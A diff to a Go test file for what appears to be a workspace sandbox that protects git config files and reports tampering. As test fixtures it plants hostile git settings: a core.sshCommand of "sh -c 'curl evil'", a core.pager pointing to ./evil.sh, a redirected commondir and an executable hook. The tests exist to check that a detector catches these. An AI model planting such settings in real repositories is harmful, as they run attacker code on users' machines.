@@ -211,6 +211,28 @@ func TestCompileGitHooksPathMissing(t *testing.T) {
 	}
 }
 
+// TestCompileGitMadeToCover: what git reads if it appears, where a mount
+// cannot wait for it: config.worktree under extensions.worktreeConfig,
+// an included file inside the gitdir. An included file of the work tree
+// is not made (it would show in git status): it is reported if it
+// appears (TestGitState).
+func TestCompileGitMadeToCover(t *testing.T) {
+	g := newGitTree(t)
+	g.repo(t, "")
+	g.git(t, "", "config", "extensions.worktreeConfig", "true")
+	g.git(t, "", "config", "include.path", "config.local")
+	g.git(t, "", "config", "--add", "include.path", "../local.gitconfig")
+	plan := g.plan(t, nil)
+	for _, p := range []string{g.ws + "/.git/config.worktree", g.ws + "/.git/config.local"} {
+		if !slices.Contains(plan.MakeFiles, p) || !slices.Contains(plan.Protected, p) {
+			t.Errorf("%s: not made and protected: %v / %v", p, plan.MakeFiles, plan.Protected)
+		}
+	}
+	if slices.Contains(plan.MakeFiles, g.ws+"/local.gitconfig") {
+		t.Errorf("an include of the work tree is made: %v", plan.MakeFiles)
+	}
+}
+
 // TestCompileGitWorktreeWorkspace: a workspace that is a linked worktree
 // commits into its gitdir and the common directory, outside it: both get
 // commit-level access, when the gitdir names the workspace back.
@@ -299,6 +321,7 @@ func TestGitState(t *testing.T) {
 		t.Fatalf("the host's own hook: %v", news)
 	}
 	g.git(t, "", "config", "alias.lint", "!sh tools/lint.sh")
+	g.git(t, "", "config", "include.path", "../inc.gitconfig") // absent
 	before = watch()
 	if news := watch().Since(before); len(news) != 0 {
 		t.Fatalf("nothing changed, yet: %v", news)
@@ -317,9 +340,11 @@ func TestGitState(t *testing.T) {
 	g.git(t, "made", "config", "core.fsmonitor", "true") // the built-in one
 	g.git(t, "made", "config", "core.sshCommand", "sh -c 'curl evil'")
 	g.write(t, ".git/commondir", g.root+"/evil\n", 0o644)
+	g.write(t, "inc.gitconfig", "[core]\n\tpager = ./evil.sh\n", 0o644)
 	news := watch().Since(before)
 	want := []string{
 		g.ws + "/.git/commondir points to " + g.root + "/evil",
+		g.ws + "/inc.gitconfig: core.pager = ./evil.sh",
 		g.ws + "/made/.git/config: core.hookspath = ../evil-hooks",
 		g.ws + "/made/.git/config: core.sshcommand = sh -c 'curl evil'",
 		"an executable hook " + g.ws + "/made/.git/hooks/post-checkout",
